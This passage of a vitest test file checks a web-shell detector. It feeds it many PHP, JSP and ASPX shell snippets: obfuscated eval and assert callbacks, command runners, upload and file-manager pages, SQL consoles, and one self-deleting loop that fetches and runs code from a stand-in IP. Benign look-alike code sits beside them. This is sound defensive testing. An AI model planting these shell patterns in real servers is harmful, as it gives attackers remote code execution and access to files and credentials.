/**
 * The web-shell judge on the shapes shells take (written here after the families seen in a
 * public collection; none of its files is in this repository) and on library code that
 * looks alike.
 */
import { describe, expect, it } from 'vitest';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { longestRun } from '../../src/findings/web-shell/code-text.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const file = (path: string, currentText: string) =>
  addedFile(path, currentText, { current: fileMeta({ sizeBytes: currentText.length }) });
const judge = (path: string, text: string) => judgeWebShell(file(path, text), false);

describe('judgeWebShell', () => {
  it.each([
    ['a callback named assert', '<?php call_user_func("assert", $_POST["x"]); ?>'],
    [
      'a callback held in request input',
      '<?php $e = $_REQUEST["e"]; array_reduce(array(1), $e, $_POST["x"]); ?>',
    ],
    [
      'a name finished from a cookie',
      '<?php $ch = $_COOKIE["d"]; array_intersect_ukey(array($_REQUEST["p"] => 1), array(1), $ch."ert"); ?>',
    ],
    ['a function chosen at run time on input', '<?php $a = trim(" assert "); $a($_POST["x"]); ?>'],
    [
      'a member of an array the page sets, called on input',
      '<?php $m = array("f" => "as" . "sert"); $m["f"]($_POST["x"]); ?>',
    ],
    ['a function named by input', '<?php $f = $_GET["f"]; $a = $_GET["a"]; $f($a); ?>'],
    [
      'the request picked out of the defined variables by a bare word',
      '<?php $a["b"] = ""; eval($a["a"] . reset(get_defined_vars()[_POST])); ?>',
    ],
    [
      'an expression called on input',
      '<?php $q = $_GET[1]; file_get_contents("php".$q)($_GET[2]); ?>',
    ],
    ['the request body included', '<?php include("php://input"); ?>'],
    [
      'a file written where the visitor says',
      '<?php file_put_contents($_COOKIE["p"], base64_decode($_POST["d"])); ?>',
    ],
    ['a decoded command', '<?php system(base64_decode("aWQ=")); ?>'],
    ['XORed names', '<?=$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);'],
    ['a name in pieces', '<?php $x = "as"."se"."rt"; $x($_POST["k"]); ?>'],
    [
      'a command runner',
      '<?php if ($_POST["m"] == 1) system($c); elseif ($_POST["m"] == 2) passthru($c); else echo shell_exec($c); ?>',
    ],
    [
      'a console whose command passes through variables',
      '<?php $c = $_POST["cmd"]; $line = "cd /tmp; " . $c; $h = popen($line, "r"); echo fread($h, 4096); ?>',
    ],
    [
      'the request walked through names held in strings',
      '<?php foreach (array("_GET", "_POST") as $r) foreach ($$r as $k => $v) $$k = $v; $fn($arg); ?>',
    ],
    ['the request named in braces', '<?php $q = ${"_REQUEST"}; $q["f"]($q["a"]); ?>'],
    [
      'a variable variable called on the request (compact and extract)',
      '<?php $cmd = $_GET["cmd"]; $sys = "sy"."stem"; extract(compact("sys")); $$sys($cmd); ?>',
    ],
    [
      'a callback named with escaped bytes',
      '<?php array_map("ass\\x65rt", (array)$_REQUEST["k"]); ?>',
    ],
    [
      'a callback name joined from an array of pieces',
      '<?php $n = join(array_diff(["sy","x","st","em"], ["x"])); array_map($n, (array)$_GET["c"]); ?>',
    ],
    ['a function held in underscores', '<?php $_ = $_GET["a"]; $__ = $_GET["b"]; $_($__); ?>'],
    [
      'an upload kept under the name it was sent with',
      '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "./" . $_FILES["f"]["name"]); ?>',
    ],
    [
      'decoded input kept in the session for a second stage',
      '<?php session_start(); $_SESSION["s"] = base64_decode($_COOKIE["t"]); ?>',
    ],
    [
      'an XPath expression that runs commands',
      "<?php $x->registerPhpFunctions(); $x->query(\"//a[php:functionString('system', '$c')]\"); ?>",
    ],
    [
      'a command wrapped in a function of its own',
      '<?php function run($c) { $h = popen($c, "r"); return fread($h, 9999); } echo run($_POST["cmd"]); ?>',
    ],
    [
      'a shell that deletes its file and keeps running',
      '<?php unlink(__FILE__); ignore_user_abort(true); set_time_limit(0); while (1) { eval(file_get_contents("http://203.0.113.7/c")); sleep(9); } ?>',
    ],
    [
      'a file manager',
      '<?php $p = $_POST["p"]; if ($_POST["a"] == "rm") unlink($p); if ($_POST["a"] == "mv") rename($p, $_POST["to"]); if ($_POST["a"] == "ch") chmod($p, 0777); ?>',
    ],
    [
      'a file manager whose operations go through functions of its own',
      '<?php function del($f) { unlink($f); } function put($f, $d) { $h = $f; file_put_contents($h, $d); } function ren($a, $b) { rename($a, $b); } if ($_POST["a"] == "d") del($_POST["f"]); if ($_POST["a"] == "w") put($_POST["f"], $_POST["d"]); if ($_POST["a"] == "r") ren($_POST["f"], $_POST["t"]); ?>',
    ],
    ['a sink in mixed case', '<?php $x = $_POST["x"]; EvAl($x); ?>'],
    [
      'a name cut by explode',
      '<?php $c = explode(".", "hi.ass.x.er.t"); array_intersect_ukey(array($_REQUEST["k"] => 1), array(1), $c[1].$c[3].$c[4]); ?>',
    ],
  ])('calls %s a web shell, critical', (_, text) => {
    expect(judge('/opt/x.php', text)).toMatchObject({ severity: 'critical', attack: 'T1505.003' });
  });

  it('judges JSP and ASPX pages by what a page should never do', () => {
    expect(
      judge(
        '/opt/t.jsp',
        '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>',
      ),
    )?.toMatchObject({ severity: 'critical' });
    expect(
      judge(
        '/opt/u.jsp',
        '<% String n = request.getParameter("n"); FileOutputStream o = new FileOutputStream(application.getRealPath("/") + n); %>',
      ),
    )?.toMatchObject({ severity: 'critical' });
    expect(
      judge(
        '/opt/c.aspx',
        '<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.Start(); %>',
      ),
    )?.toMatchObject({ severity: 'critical' });
  });

  it.each([
    [
      'a JSP written with unicode escapes',
      '/opt/u.jsp',
      '<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>',
    ],
    [
      'a JSP carrying a compiled class',
      '/opt/c.jsp',
      `<% String k = "yv66vgAAADIA${'A'.repeat(60)}"; new U().defineClass(k); %>`,
    ],
    [
      'a JSP calling a decoded class by reflection',
      '/opt/r.jsp',
      '<% Class c = Class.forName(new String(d.decodeBuffer("amF2YS5sYW5nLlJ1bnRpbWU="))); c.getMethod("exec", String.class).invoke(null, request.getParameter("q")); %>',
    ],
    [
      'a JSP writing a file through a variable',
      '/opt/w.jsp',
      '<% String p = request.getParameter("path"); File f = new File(p); PrintWriter w = new PrintWriter(f); w.println(request.getParameter("c")); %>',
    ],
    [
      'a JSP handing out any file',
      '/opt/l.jsp',
      '<% File f = new File(request.getParameter("file")); InputStream in = new FileInputStream(f); %>',
    ],
    [
      'JShell on request input',
      '/opt/j.jsp',
      '<%=jdk.jshell.JShell.builder().build().eval(request.getParameter("s"))%>',
    ],
    [
      'an ASPX page running a form field',
      '/opt/a.aspx',
      '<%@ Page Language="VB" %><script runat="server">Sub R(s As Object, e As EventArgs)\nDim i As New ProcessStartInfo(xpath.Text)\ni.Arguments = xcmd.Text\nProcess.Start(i)\nEnd Sub</script><asp:TextBox id="xpath" runat="server"/>',
    ],
    [
      'an ASPX upload kept under its own name',
      '/opt/u.aspx',
      '<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0]; using (FileStream s = new FileStream(Path.Combine(d, Path.GetFileName(f.FileName)), FileMode.Create)) {} %>',
    ],
    [
      'an ASPX eval spelt in pieces',
      '/opt/e.aspx',
      '<%@ Page Language = Jscript %><%var P = "e"+"v"+"a"+"l"+"("+"R"+"e"+"q"+"u"+"e"+"s"+"t"+"[1]"+")"; eval(P, "unsafe");%>',
    ],
    [
      'an ASPX page running WScript.Shell by its class id',
      '/opt/g.aspx',
      '<%@ Page Language="Jscript"%><% var c = Request.Item["g"]; var r = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Exec("cmd /c " + c); %>',
    ],
    [
      'an ASPX page declaring CreateProcess for P/Invoke',
      '/opt/p.aspx',
      '<%@ Page Language="C#" %><script runat="server">[DllImport("kernel32.dll")] static extern bool CreateProcess(string app, string cmd, IntPtr a, IntPtr b, bool h, uint f, IntPtr e, string d, ref STARTUPINFO s, out PROCESS_INFORMATION p);\nvoid Go(object o, EventArgs e) { string c = Request.Form["c"]; }</script>',
    ],
    [
      'create_function called through a variable holding its name, in a function given the request',
      '/opt/f.php',
      '<?php function check($t) { $a = "create_function"; $h = $a("", $t); @$h(); } check($_POST["w"]); ?>',
    ],
    [
      'an ASPX page hosting PowerShell in its own process on a form field',
      '/opt/ps.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var shell = System.Management.Automation.PowerShell.Create(); shell.AddCommand(Request.Form["c"]); var r = shell.Invoke(); }</script>',
    ],
    [
      'an ASPX database console on its own text boxes, read through `this`',
      '/opt/sql.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Run(object o, EventArgs e) { SqlConnection con = new SqlConnection(this.txtConnection.Text); SqlCommand cmd = new SqlCommand(this.txtQuery.Text, con); }</script><asp:TextBox ID="txtConnection" runat="server"/><asp:TextBox ID="txtQuery" runat="server"/>',
    ],
    [
      "an ASPX database console on HTML controls run at the server (the SQL set as the command's text)",
      '/opt/sql.aspx',
      '<%@ Page Language="C#" %><script runat="server">protected void Go(object s, EventArgs e) { using (var c = new SqlConnection(conn.Value)) { var cmd = c.CreateCommand(); cmd.CommandText = sql.Value.Trim(); grid.DataSource = cmd.ExecuteReader(); } }</script><form runat="server"><input id="conn" runat="server" /><textarea id="sql" runat="server"></textarea></form>',
    ],
    [
      "an ASPX database console whose text box's value is the command's text",
      '/opt/q.aspx',
      '<%@ Page Language="C#" %><script runat="server">protected void Go(object s, EventArgs e) { using (var c = new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString)) { var cmd = c.CreateCommand(); cmd.CommandText = txtSql.Text; cmd.ExecuteReader(); } }</script><asp:TextBox ID="txtSql" TextMode="MultiLine" runat="server" />',
    ],
    [
      'an ASPX upload saved under the name an HTML control run at the server gives',
      '/opt/up.aspx',
      '<%@ Page Language="C#" %><script runat="server">protected void Up(object s, EventArgs e) { f.PostedFile.SaveAs(Server.MapPath(".") + "\\\\" + path.Value); }</script><form runat="server"><input type="file" id="f" runat="server" /><input id="path" runat="server" /></form>',
    ],
    [
      'an ASPX file browser handing out a file through the response held in a variable',
      '/opt/x.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { string filename = Request.QueryString["xx"]; System.Web.HttpResponse response = System.Web.HttpContext.Current.Response; response.TransmitFile(filename); }</script>',
    ],
    [
      'an ASPX page writing the request into a page it names itself',
      '/opt/n.aspx',
      '<%@ Page Language="C#" %><% var w = new System.IO.StreamWriter(Server.MapPath("n.aspx"), false); w.Write(Request.Item["l"]); w.Close(); %>',
    ],
    [
      "an ASPX page running the visitor's stylesheet with its scripts enabled",
      '/opt/x.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Run(object o, EventArgs e) { XmlDocument x = new XmlDocument(); x.LoadXml(Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["c"]))); XsltSettings s = new XsltSettings(false, true); XslCompiledTransform t = new XslCompiledTransform(); t.Load(x, s, new XmlUrlResolver()); }</script>',
    ],
    [
      'PHP written without letters or digits',
      '/opt/n.php',
      '<?php\n$_[] = @!+_; $__ = @${_} >> $_; $_[] = $__; $_[] = @_; @$_[((++$__) + ($__++))] .= $_;\n$_[] = ++$__; $_[] = $_[--$__][$__ >> $__]; $_[$__] .= (($__ + $__) + $_[$__ - $__]) . ($__ + $__ + $__) + $_[$__ - $__];\n$_[$__ + $__] = ($_[$__][$__ >> $__]) . ($_[$__][$__] ^ $_[$__][($__ << $__) - $__]);\n$_ = $_[$__ + $__]; $_[@-_]($_[@!+_]);\n?>',
    ],
    [
      'a JSP whose stylesheet binds java.lang.Runtime (a Xalan extension)',
      '/opt/x.jsp',
      '<% String c = request.getParameter("c"); String s = "<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/XSL/Transform\\" xmlns:rt=\\"java.lang.Runtime\\"><xsl:template match=\\"/\\"><xsl:variable name=\\"p\\" select=\\"rt:exec(rt:getRuntime(),\'" + c + "\')\\"/></xsl:template></xsl:stylesheet>"; TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(s))); %>',
    ],
    [
      "a JSP writing the request into a JDK class's private field",
      '/opt/m.jsp',
      '<% String cmd = request.getParameter("cmd"); Class k = Class.forName("sun.net.www.MimeLauncher"); Field f = k.getDeclaredField("execPath"); f.setAccessible(true); f.set(t, cmd); k.getDeclaredMethod("run").invoke(t); %>',
    ],
    [
      'PHP whose names hold invisible characters, called through them',
      '/opt/h.php',
      '<?php $lo\u17b4\u17b5 = "create_function"; $hi\u17b4\u17b4 = file(__FILE__)[3]; $run = $lo\u17b4\u17b5("", $hi\u17b4\u17b4); $run(); ?>',
    ],
    [
      'an ASPX page reading the passwords IIS keeps for its sites',
      '/opt/iis.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { DirectoryEntry w = new DirectoryEntry("IIS://localhost/W3SVC"); foreach (DirectoryEntry c in w.Children) Response.Write(c.Properties["AnonymousUserPass"].Value); }</script>',
    ],
    [
      'an ASPX page starting a program kept beside it',
      '/opt/cc.aspx',
      '<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = Server.MapPath("tool.exe"); p.StartInfo.Arguments = "-s 1.reg"; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); %>',
    ],
    [
      'a JSP document hiding its names in CDATA sections and character references',
      '/opt/d.jspx',
      '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>String c = requ<![CDATA[est.get]]>Parameter("c"); Process p = &#x52;untime.getRuntime().exec(c);</jsp:scriptlet></jsp:root>',
    ],
    [
      'a page in XML syntax, named .jsp, its prefix bound to the JSP namespace',
      '/opt/p.jsp',
      '<x:root xmlns:x="http://java.sun.com/JSP/Page" version="1.2"><x:scriptlet>String c = requ<![CDATA[est.getPara]]>meter("q"); Runtime.getRuntime().exec(c);</x:scriptlet></x:root>',
    ],
    [
      'an EL expression calling the methods the request names',
      '/opt/el.jsp',
      '${""[param.a]()[param.b](param.c)[param.d]()[param.e](param.f)}',
    ],
    [
      'an EL expression running a request parameter',
      '/opt/e.jsp',
      '${Runtime.getRuntime().exec(param.cmd)}',
    ],
    [
      'a JSP adding a request listener to the running Tomcat',
      '/opt/l.jsp',
      '<% Field f = servletContext.getClass().getDeclaredField("context"); f.setAccessible(true); StandardContext ctx = (StandardContext) f.get(app); ctx.addApplicationEventListener(new ServletRequestListener() { public void requestInitialized(ServletRequestEvent e) { String x = e.getServletRequest().getParameter("x"); } }); %>',
    ],
    [
      'a JSP defining a class from BCEL-escaped bytes through reflection',
      '/opt/b.jsp',
      '<% String s = "$ca$fe$ba$be$A$A$A4$B$l$K$A$U$A$80$H$A$81$K$A$C$A$80$J$AY"; byte[] d = Utility.decode(s, false); Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); %>',
    ],
    [
      "a servlet request's parameter run as a command",
      '/opt/s.jsp',
      '<% Process p = Runtime.getRuntime().exec(servletRequest.getParameter("x")); %>',
    ],
    [
      'a JSP reaching Runtime by a name cut in pieces',
      '/opt/n.jsp',
      '<% String cmd = request.getParameter("cmd"); Class k = ObjectFactory.findProviderClass("java.lang.Run" + "time", true); Object r = k.getMethods()[12].invoke(null); k.getMethods()[5].invoke(r, cmd); %>',
    ],
    [
      'PHP calling one element of an array it names at run time with another',
      '/opt/a.php',
      '<?=$_=[]._;$_=_.($_[2].$_[2].$_[3]^575.._);$$_[0]($$_[1]);',
    ],
    [
      'PHP calling a name joined from pieces on the request',
      '/opt/j.php',
      "<?php class W { function stream_open($p) { sy.'stem'($_GET['cmd']); } } ?>",
    ],
    [
      'PHP running a request header read through getenv() with a bare name',
      '/opt/g.php',
      '<? @eval(getenv(HTTP_LOGO)); ?>',
    ],
    [
      'a JSP evaluating the request as Groovy',
      '/opt/g.jsp',
      '<% String s = request.getParameter("s"); Object r = new groovy.lang.GroovyShell().evaluate(s); out.print(r); %>',
    ],
    [
      'an ASPX page compiling C# the visitor sends',
      '/opt/c.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { var p = new CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new CompilerParameters(), Request.Form["src"]); }</script>',
    ],
    [
      "a JSP reading Java objects from the request's body",
      '/opt/o.jsp',
      '<% ObjectInputStream in = new ObjectInputStream(request.getInputStream()); Object o = in.readObject(); %>',
    ],
    [
      "an ASPX page deserializing the request's body with BinaryFormatter",
      '/opt/d.aspx',
      '<%@ Page Language="C#" %><% var f = new BinaryFormatter(); object o = f.Deserialize(Request.InputStream); %>',
    ],
    [
      'a JSP loading classes from a URL the visitor gives',
      '/opt/u.jsp',
      '<% String u = request.getParameter("u"); URLClassLoader l = new URLClassLoader(new URL[] { new URL(u) }); l.loadClass("Payload").newInstance(); %>',
    ],
    [
      "a JSP database console running the visitor's SQL",
      '/opt/sql.jsp',
      '<% String sql = request.getParameter("sql").trim(); Statement st = conn.createStatement(); ResultSet rs = st.executeQuery(sql); %>',
    ],
    [
      'a JSP connecting to the database the visitor names',
      '/opt/db.jsp',
      '<% Connection c = DriverManager.getConnection(request.getParameter("url"), request.getParameter("u"), request.getParameter("p")); %>',
    ],
    [
      "an ASPX database console running the visitor's SQL",
      '/opt/sql.aspx',
      '<%@ Page Language="C#" %><script runat="server">void Run(object o, EventArgs e) { string q = Request.Form["q"]; var cmd = new SqlCommand(q, new SqlConnection(Request["cs"])); }</script>',
    ],
    [
      "a JSP running the request's query string and parameter values",
      '/opt/q.jsp',
      '<% String[] v = request.getParameterValues("c"); String q = java.net.URLDecoder.decode(request.getQueryString()); Process p = Runtime.getRuntime().exec(q); %>',
    ],
  ])('calls %s a web shell, critical', (_, where, text) => {
    expect(judge(where, text)).toMatchObject({ severity: 'critical' });
  });

  it('leaves server pages that only look alike at medium or below', () => {
    for (const [where, text] of [
      [
        '/opt/d.jsp',
        '<% File f = new File(application.getRealPath("/WEB-INF/help.txt")); InputStream in = new FileInputStream(f); %>',
      ],
      [
        '/opt/n.jsp',
        '<% String n = request.getParameter("name"); out.println(n.length()); PrintWriter w = response.getWriter(); %>',
      ],
      [
        '/opt/q.aspx',
        '<%@ Page Language="C#" %><% SqlCommand c = new SqlCommand("SELECT 1", conn); Label1.Text = Request.QueryString["q"]; %>',
      ],
      [
        '/opt/t.aspx',
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { string id = Request.QueryString["id"]; XslCompiledTransform t = new XslCompiledTransform(); t.Load(Server.MapPath("~/news.xslt"), XsltSettings.Default, null); }</script>',
      ],
      [
        '/opt/r.aspx',
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { string id = Request.QueryString["id"]; HttpResponse response = HttpContext.Current.Response; response.TransmitFile(Server.MapPath("~/reports/annual.pdf")); }</script>',
      ],
      [
        '/opt/c.aspx',
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { SqlConnection con = new SqlConnection(this.ConnectionName); Label1.Text = Request.QueryString["q"]; }</script>',
      ],
      [
        '/opt/list.aspx',
        '<%@ Page Language="C#" %><% string id = Request.QueryString["id"]; var cmd = new SqlCommand("SELECT * FROM t WHERE id=" + id, new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString)); %>',
      ],
      [
        // A search box put into SQL the page writes, as a parameter; an input the browser
        // alone reads (no runat="server") is no control of the server's.
        '/opt/find.aspx',
        '<%@ Page Language="C#" %><script runat="server">protected void Find(object s, EventArgs e) { var cmd = new SqlCommand("SELECT * FROM t WHERE name = @n", con); cmd.Parameters.AddWithValue("@n", txtName.Text); cmd.CommandText = "SELECT name FROM t WHERE id = " + ddl.SelectedValue; }</script><asp:TextBox ID="txtName" runat="server" /><asp:DropDownList ID="ddl" runat="server" /><input id="sql" /><script>var q = sql.value;</script>',
      ],
      [
        '/opt/list.jsp',
        '<% String id = request.getParameter("id"); String q = request.getParameter("q"); String sql = "SELECT name FROM t WHERE name LIKE \'" + q + "\'"; ResultSet a = st.executeQuery("SELECT * FROM t WHERE id=" + id); ResultSet b = st.executeQuery(sql); %>',
      ],
      [
        '/opt/cache.jsp',
        '<% String id = request.getParameter("id"); ObjectInputStream in = new ObjectInputStream(new FileInputStream(application.getRealPath("/WEB-INF/cache.ser"))); out.print(id); %>',
      ],
      [
        '/opt/api.aspx',
        '<%@ Page Language="C#" %><% var x = new XmlSerializer(typeof(Order)); var o = (Order) x.Deserialize(Request.InputStream); var j = new JavaScriptSerializer().Deserialize<Order>(Request.Form["j"]); %>',
      ],
      [
        '/opt/doc.jspx',
        '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet><![CDATA[ String q = request.getParameter("q"); if (q != null &amp;&amp; q.length() &lt; 80) out.println(q.trim()); ]]></jsp:scriptlet></jsp:root>',
      ],
      ['/opt/hello.jsp', '<h1>Hello, ${param.name}! You came from ${header["referer"]}.</h1>'],
      [
        '/opt/xsl.jsp',
        '<% String id = request.getParameter("id"); String s = "<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/XSL/Transform\\" xmlns:date=\\"http://exslt.org/dates-and-times\\"/>"; TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(s))); %>',
      ],
      [
        '/opt/f.jsp',
        '<% String id = request.getParameter("id"); Field f = Config.class.getDeclaredField("debug"); f.setAccessible(true); f.set(null, Boolean.TRUE); out.println(id); %>',
      ],
      [
        '/opt/iis.aspx',
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { DirectoryEntry w = new DirectoryEntry("IIS://localhost/W3SVC/1"); Response.Write(w.Properties["ServerComment"].Value); }</script>',
      ],
      [
        '/opt/r.aspx',
        '<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = "convert"; p.StartInfo.Arguments = Server.MapPath("logo.png"); p.Start(); %>',
      ],
      [
        '/opt/banner.php',
        `<?php\necho <<<'BANNER'\n${' $$\\      $$\\  $$$$$$\\  $$$$$$$$\\ \n $$$\\    $$$ |$$  __$$\\ $$  _____|\n'.repeat(4)}BANNER;\n$render = 'strtoupper';\necho $render("hello");`,
      ],
    ]) {
      const hit = judge(where!, text!);
      expect(hit?.severity ?? 'none', text).not.toMatch(/high|critical/);
    }
  });

  it('leaves library code that only looks alike at medium or below', () => {
    for (const text of [
      '<?php $cb = $this->callbacks[$name]; return $cb($value); ?>',
      '<?php $msg = $greeting . \'Dear\' . strtoupper($_GET["name"]); $h = $handlers[$type]; $h[0]($h[1]); ?>',
      '<?php $sanitized = array_map("intval", $_GET["ids"]); ?>',
      '<?php $out = preg_replace("/\\\\s+/", " ", $_POST["q"]); ?>',
      '<?php $key = hash("sha256", $secret) ^ str_repeat(chr(0), 32); ?>',
      '<?php // run `$cmd` with exec() from $_GET\n echo "ok"; ?>',
      // A request value checked, then a constant command; an upload kept under a made name.
      '<?php $mode = $_POST["mode"]; if ($mode === "gc") exec("/usr/bin/php cleanup.php"); ?>',
      '<?php move_uploaded_file($_FILES["f"]["tmp_name"], $dir . "/" . uniqid() . ".jpg"); ?>',
      '<?php usort($rows, $cmp); $order = $_GET["order"]; ?>',
      '<?php preg_replace_callback("/x/", "lower", $_SERVER["REQUEST_URI"]); ?>',
      '<?php $_SESSION["user"] = $_POST["user"]; ?>',
      '<?php $blob = "QUJD//RU/*ZH"; echo strlen($blob); ?>',
      // An uploader that removes what it made, an admin page that renames its own files.
      '<?php function clean($f) { unlink($f); } clean("/tmp/" . basename($_POST["f"])); ?>',
      '<?php $t = $_POST["theme"]; if (!preg_match("/^\\w+$/", $t)) exit; rename("themes/$t.tmp", "themes/$t"); ?>',
    ]) {
      const hit = judge('/var/www/html/lib.php', text);
      expect(hit?.severity ?? 'none', text).not.toMatch(/high|critical/);
    }
  });

  it('ranks a /e pattern and the request given to a function chosen at run time critical', () => {
    const shell = '<?php $f = "preg_" . "replace"; $f("/.*/e", $_POST["c"], ""); ?>';
    expect(judge('/var/www/html/p.php', shell)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/pattern with the \/e modifier and request input/),
    });
    // The same call with a pattern that runs nothing, or the /e pattern on the page's own text.
    for (const text of [
      '<?php $f = $this->filter; $f("/\\s+/i", $_POST["q"], " "); ?>',
      '<?php $f = $this->filter; $f("/(x)/e", "strtoupper(\'$1\')", $title); ?>',
    ])
      expect(judge('/var/www/html/lib.php', text)?.severity ?? 'none', text).not.toMatch(
        /high|critical/,
      );
  });

  it('measures encoded blobs in one pass, which a repeated regex would not', () => {
    const isA = (c: number) => c === 65;
    expect(longestRun('AAxAAAAyA', isA)).toBe(4);
    expect(longestRun('', isA)).toBe(0);
    // Runs just short of a threshold, where `[…]{4000,}` rescans each from every start.
    const shaped = `<?php ${('A'.repeat(3999) + '!').repeat(16)}`;
    expect(judge('/opt/x.php', shaped)).toBeUndefined();
    expect(judge('/opt/y.php', `<?php $x = "${'QUFB'.repeat(6000)}";`)?.severity).toBe('high');
  });

  it("follows a runner's name through a function of the page's own that calls what it is given", () => {
    const relayed = `<?php
function run_each($how, $what) { array_map($how, $what); }
run_each(assert, array($_POST['q']));
?>`;
    expect(judge('/var/www/html/x.php', relayed)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runner's name and request input handed to run_each\(\)/),
    });
    const quoted = relayed.replace('assert,', "'system',");
    expect(judge('/var/www/html/x.php', quoted)?.severity).toBe('critical');
    // The same helper given a harmless callback: a library's.
    const library = relayed.replace('assert,', "'trim',");
    expect(judge('/var/www/html/x.php', library)?.severity).not.toBe('critical');
  });

  it('reads strings made from numbers, joined by offset and bit operators, as a disguise', () => {
    const piece = '((((1).(0.5)){2})|(((1).(2)){0}))';
    const hidden = `<?php eval(${Array(12).fill(piece).join('.')}); ?>`;
    expect(judge('/var/www/html/x.php', hidden)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/strings made from numbers/),
    });
    // Arithmetic on numbers, however long, joins none as strings.
    const sums = `<?php $t = ${Array(40).fill('(1.5 * (2 + 3))').join(' + ')}; ?>`;
    expect(judge('/var/www/html/x.php', sums)).toBeUndefined();
  });
});

describe('judgeWebShell: request arrays and reflection', () => {
  it.each([
    [
      'ReflectionFunction of a runner invoked on input',
      '<?php $x = new ReflectionFunction("system"); $x->invoke($_GET["c"]);',
    ],
    [
      'ReflectionFunction of a name the request gives',
      '<?php (new ReflectionFunction($_GET["f"]))->invokeArgs([$_GET["c"]]);',
    ],
    ["a request array's key called", '<?php foreach ($_POST as $k => $v) { $k($v); }'],
    [
      "a request array's key called in a closure",
      '<?php array_walk($_GET, function ($v, $k) { $k($v); });',
    ],
    ['an uploaded file included', '<?php include $_FILES["f"]["tmp_name"];'],
    ['the request extracted through a name', '<?php $c = $_REQUEST; @extract($c); @$a($b);'],
    ['pcntl_exec() given the arguments', '<?php pcntl_exec("/bin/sh", ["-c", $_GET["c"]]);'],
    [
      'LD_PRELOAD set before mail()',
      '<?php putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c", "d");',
    ],
    [
      'SQLite given assert as a function',
      '<?php $db = new PDO("sqlite::memory:"); $db->sqliteCreateFunction("f", "assert", 1); $db->query("SELECT f(\'" . $_GET["c"] . "\')");',
    ],
    [
      'an XML handler named assert',
      '<?php $p = xml_parser_create(); xml_set_character_data_handler($p, "assert"); xml_parse($p, "<a>" . $_POST["c"] . "</a>");',
    ],
    [
      "FILTER_CALLBACK's option assert",
      '<?php filter_var($_GET["c"], FILTER_CALLBACK, array("options" => "assert"));',
    ],
    [
      'mb_ereg_replace_callback() to assert',
      '<?php mb_ereg_replace_callback(".*", "assert", $_POST["c"]);',
    ],
    [
      'session save handlers named assert',
      '<?php session_set_save_handler("assert", "assert", "assert", "assert", "assert", "assert"); session_start(); $_SESSION["x"] = $_GET["c"];',
    ],
    [
      'an autoloader named assert',
      '<?php spl_autoload_register("assert"); class_exists($_GET["c"]);',
    ],
    [
      "ArrayObject's uksort() to assert",
      '<?php $a = new ArrayObject(array($_GET["c"] => 1)); $a->uksort("assert");',
    ],
    [
      "a CallbackFilterIterator given the request's function",
      '<?php $it = new CallbackFilterIterator(new ArrayIterator([$_GET["a"]]), $_GET["f"]); foreach ($it as $x);',
    ],
    ['preg_filter() with /e', '<?php preg_filter("/.*/e", $_GET["c"], "x");'],
    ['names given the request by list()', "<?php list($f, $c) = explode(',', $_GET['x']); $f($c);"],
    [
      'names given the request by [] destructuring',
      '<?php [$f, $c] = [$_GET["f"], $_GET["c"]]; $f($c);',
    ],
    [
      "a member of the request's decoded cookie called",
      '<?php $d = json_decode(base64_decode($_COOKIE["d"])); ($d->f)($d->a);',
    ],
    [
      'SplFileObject writing the file the visitor names',
      '<?php $x = new SplFileObject($_GET["f"], "w"); $x->fwrite($_POST["d"]);',
    ],
    [
      'request input written to a file, then included',
      '<?php $t = tempnam(sys_get_temp_dir(), "x"); file_put_contents($t, "<?php " . $_POST["c"]); include $t;',
    ],
    [
      "request input on sendmail's command line",
      '<?php mail("a@example.org", "s", $_POST["b"], "", $_POST["o"]);',
    ],
    [
      'a function named by a value picked out of the JSON body',
      '<?php $in = json_decode(file_get_contents("php://input"), true);\n$fn = $in["f"]; $arg = $in["a"];\necho $fn($arg);',
    ],
  ])('ranks %s critical', (_, text) => {
    expect(judge('/var/www/html/x.php', text)?.severity).toBe('critical');
  });

  it.each([
    [
      'ReflectionFunction of a string helper',
      '<?php $r = new ReflectionFunction("strtoupper"); echo htmlspecialchars($r->invoke($_GET["s"]));',
    ],
    [
      'a request array cleaned in a loop',
      '<?php foreach ($_POST as $k => $v) { $clean[$k] = trim($v); }',
    ],
    [
